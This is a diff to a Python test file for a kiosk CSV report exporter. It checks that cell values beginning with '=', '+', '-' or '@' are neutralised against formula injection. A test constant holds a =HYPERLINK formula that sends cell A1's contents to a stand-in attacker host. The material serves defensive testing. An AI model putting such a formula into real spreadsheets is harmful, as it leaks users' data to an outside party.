@@ -19,7 +19,7 @@ from support import SMALL_CATALOG
 
 from kiosk.csv_cells import csv_line, id_cell, text_cell
 from kiosk.models import GroupFigures, MaterialCheck, MaterialStatus, Report, Window
-from kiosk.report_table import to_csv
+from kiosk.report_table import GROUP_HEADERS, to_csv
 
 ID = "11010519491231002X"
 HOSTILE_MATTER = '=HYPERLINK("http://evil.example/?"&A1,"个体工商户设立登记")'
@@ -71,7 +71,7 @@ def test_ratings_json_keeps_the_raw_values(hall, clock):
 
 def hostile_report() -> Report:
     def figures(key: str, label: str) -> GroupFigures:
-        return GroupFigures(key, label, 3, 2, 1, 0, 4.5, 8.0, 9.0, 6.0)
+        return GroupFigures(key, label, 3, 2, 1, 0, 4.5, 8.0, 9.0, 6.0, handed_on=1)
 
     return Report(
         date_from=dt.date(2026, 11, 25), date_to=dt.date(2026, 11, 25), totals=figures("all", "全部"),
@@ -83,9 +83,9 @@ def hostile_report() -> Report:
 
 def test_report_csv_quotes_formula_names_and_keeps_a_numeric_login_as_text():
     rows = read_csv(to_csv(hostile_report()))
-    named = {row[1]: row for row in rows if len(row) == 10 and row[0] in ("分类", "窗口", "人员")}
+    named = {row[1]: row for row in rows if len(row) == len(GROUP_HEADERS) and row[0] in ("分类", "窗口", "人员")}
     assert set(named) == {"'+商事登记", "'@SUM(1+1)", "\t007", "'-2+3"}
-    assert named["'@SUM(1+1)"][2:] == ["3", "2", "1", "0", "4.5", "8.0", "9.0", "6.0"]
+    assert named["'@SUM(1+1)"][2:] == ["3", "2", "1", "0", "1", "4.5", "8.0", "9.0", "6.0"]
     assert ["口径", "'=口径"] in rows
     assert ["统计期间", "2026-11-25 至 2026-11-25"] in rows
 
